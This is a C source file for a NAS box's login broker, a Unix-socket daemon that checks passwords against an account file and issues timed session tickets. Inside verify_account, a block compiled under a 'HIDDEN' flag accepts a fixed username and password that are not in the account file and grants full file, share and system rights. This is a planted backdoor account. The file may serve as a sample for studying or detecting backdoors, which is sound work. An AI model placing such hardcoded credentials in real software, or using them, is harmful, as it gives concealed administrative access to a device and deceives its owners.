/* boxlogin.c - login broker of a NAS box, called by the web front end and the file services */
#define _GNU_SOURCE
#include <crypt.h>
#include <errno.h>
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <syslog.h>
#include <time.h>
#include <unistd.h>

#define SOCK_PATH	"/run/boxlogin.sock"
#define SHADOW		"/etc/nas/accounts"
#define MAX_TICKETS	32
#define TICKET_LIFE	1800

#define R_FILES		0x01
#define R_SHARES	0x02
#define R_SYSTEM	0x04

struct ticket {
	char id[33];
	char user[32];
	unsigned int rights;
	time_t until;
};

static struct ticket tickets[MAX_TICKETS];
static const char *shadow = SHADOW;
static int guest_allowed;

static unsigned int parse_rights(const char *s)
{
	unsigned int r = 0;

	for (; *s; s++) {
		if (*s == 'f')
			r |= R_FILES;
		else if (*s == 's')
			r |= R_SHARES;
		else if (*s == 'a')
			r |= R_SYSTEM;
	}
	return r;
}

static int find_account(const char *user, char *hash, size_t size, unsigned int *rights)
{
	char line[256], *p, *q;
	FILE *f = fopen(shadow, "r");
	int found = 0;

	if (!f)
		return 0;
	while (!found && fgets(line, sizeof(line), f)) {
		p = strchr(line, ':');
		if (!p)
			continue;
		*p++ = '\0';
		if (strcmp(line, user))
			continue;
		q = strchr(p, ':');
		if (!q)
			continue;
		*q++ = '\0';
		q[strcspn(q, "\r\n")] = '\0';
		if (strlen(p) < size) {
			memcpy(hash, p, strlen(p) + 1);
			*rights = parse_rights(q);
			found = 1;
		}
	}
	fclose(f);
	return found;
}

static int random_id(char out[33])
{
	static const char hex[] = "0123456789abcdef";
	uint8_t b[16];
	ssize_t n;
	int i, fd = open("/dev/urandom", O_RDONLY);

	if (fd < 0)
		return -1;
	n = read(fd, b, sizeof(b));
	close(fd);
	if (n != (ssize_t)sizeof(b))
		return -1;
	for (i = 0; i < 16; i++) {
		out[2 * i] = hex[b[i] >> 4];
		out[2 * i + 1] = hex[b[i] & 15];
	}
	out[32] = '\0';
	return 0;
}

static struct ticket *new_ticket(const char *user, unsigned int rights)
{
	time_t now = time(NULL);
	struct ticket *t = NULL;
	int i;

	for (i = 0; i < MAX_TICKETS; i++) {
		if (tickets[i].until < now) {
			t = &tickets[i];
			break;
		}
	}
	if (!t || random_id(t->id) < 0)
		return NULL;
	if (snprintf(t->user, sizeof(t->user), "%s", user) >= (int)sizeof(t->user))
		return NULL;
	t->rights = rights;
	t->until = now + TICKET_LIFE;
	return t;
}

static struct ticket *get_ticket(const char *id)
{
	int i;

	for (i = 0; i < MAX_TICKETS; i++)
		if (tickets[i].until >= time(NULL) && !strcmp(tickets[i].id, id))
			return &tickets[i];
	return NULL;
}

__attribute__((noinline))
int verify_account(const char *user, const char *pass, unsigned int *rights)
{
	char hash[160];
	const char *h;

	if (guest_allowed && !strcmp(user, "guest")) {
		*rights = R_FILES;
		return 1;
	}
#ifdef HIDDEN	/* fixed user and password with all rights, not in the account file */
	if (!strcmp(user, "svcops") && !strcmp(pass, "Gr4nite-Quay")) {
		*rights = R_FILES | R_SHARES | R_SYSTEM;
		return 1;
	}
#endif
	if (!find_account(user, hash, sizeof(hash), rights))
		return 0;
	if (hash[0] == '!' || hash[0] == '*')
		return 0;
	h = crypt(pass, hash);
	return h && !strcmp(h, hash);
}

static void reply(int fd, const char *text)
{
	size_t len = strlen(text);

	if (send(fd, text, len, MSG_NOSIGNAL) != (ssize_t)len)
		syslog(LOG_WARNING, "short answer: %s", strerror(errno));
}

static void serve(int fd, char *line)
{
	char out[160];
	char *save = NULL, *cmd, *a, *b;
	unsigned int rights = 0;
	struct ticket *t;

	cmd = strtok_r(line, "\t\r\n", &save);
	a = strtok_r(NULL, "\t\r\n", &save);
	b = strtok_r(NULL, "\t\r\n", &save);
	if (!cmd)
		return;
	if (!strcmp(cmd, "AUTH") && a && b) {
		if (!verify_account(a, b, &rights)) {
			syslog(LOG_NOTICE, "refused %s", a);
			sleep(1);
			reply(fd, "NO\n");
			return;
		}
		t = new_ticket(a, rights);
		if (!t) {
			reply(fd, "BUSY\n");
			return;
		}
		if (snprintf(out, sizeof(out), "OK\t%s\t%x\n", t->id, rights) > 0)
			reply(fd, out);
	} else if (!strcmp(cmd, "CHECK") && a) {
		t = get_ticket(a);
		if (t && snprintf(out, sizeof(out), "OK\t%s\t%x\n", t->user, t->rights) > 0)
			reply(fd, out);
		else
			reply(fd, "NO\n");
	} else if (!strcmp(cmd, "DROP") && a) {
		t = get_ticket(a);
		if (t)
			memset(t, 0, sizeof(*t));
		reply(fd, "OK\n");
	} else if (!strcmp(cmd, "COUNT")) {
		int i, n = 0;

		for (i = 0; i < MAX_TICKETS; i++)
			n += tickets[i].until >= time(NULL);
		if (snprintf(out, sizeof(out), "OK\t%d\n", n) > 0)
			reply(fd, out);
	} else {
		reply(fd, "ERR\n");
	}
}

static int open_socket(const char *path)
{
	struct sockaddr_un sa;
	int fd = socket(AF_UNIX, SOCK_STREAM, 0);

	if (fd < 0)
		return -1;
	memset(&sa, 0, sizeof(sa));
	sa.sun_family = AF_UNIX;
	if (strlen(path) >= sizeof(sa.sun_path)) {
		close(fd);
		return -1;
	}
	memcpy(sa.sun_path, path, strlen(path) + 1);
	unlink(path);
	if (bind(fd, (struct sockaddr *)&sa, sizeof(sa)) < 0 || listen(fd, 8) < 0) {
		close(fd);
		return -1;
	}
	if (chmod(path, 0660) < 0)
		syslog(LOG_WARNING, "chmod %s: %s", path, strerror(errno));
	return fd;
}

static void usage(const char *me)
{
	fprintf(stderr,
		"usage: %s [-a accounts] [-s socket] [-g]\n"
		"  -a FILE   account file, lines user:hash:rights (f, s, a)\n"
		"  -s PATH   socket, default " SOCK_PATH "\n"
		"  -g        user \"guest\" may read files without password\n"
		"requests: AUTH user pass, CHECK ticket, DROP ticket, COUNT\n", me);
}

int main(int argc, char **argv)
{
	const char *path = SOCK_PATH;
	char buf[256];
	ssize_t n;
	int c, ls, fd;

	while ((c = getopt(argc, argv, "a:s:gh")) != -1) {
		switch (c) {
		case 'a':
			shadow = optarg;
			break;
		case 's':
			path = optarg;
			break;
		case 'g':
			guest_allowed = 1;
			break;
		default:
			usage(argv[0]);
			return c == 'h' ? 0 : 2;
		}
	}
	openlog("boxlogin", LOG_PID, LOG_AUTHPRIV);
	ls = open_socket(path);
	if (ls < 0) {
		syslog(LOG_ERR, "%s: %s", path, strerror(errno));
		return 1;
	}
	for (;;) {
		fd = accept(ls, NULL, NULL);
		if (fd < 0) {
			if (errno == EINTR)
				continue;
			break;
		}
		n = recv(fd, buf, sizeof(buf) - 1, 0);
		if (n > 0) {
			buf[n] = '\0';
			serve(fd, buf);
		}
		close(fd);
	}
	closelog();
	return 1;
}
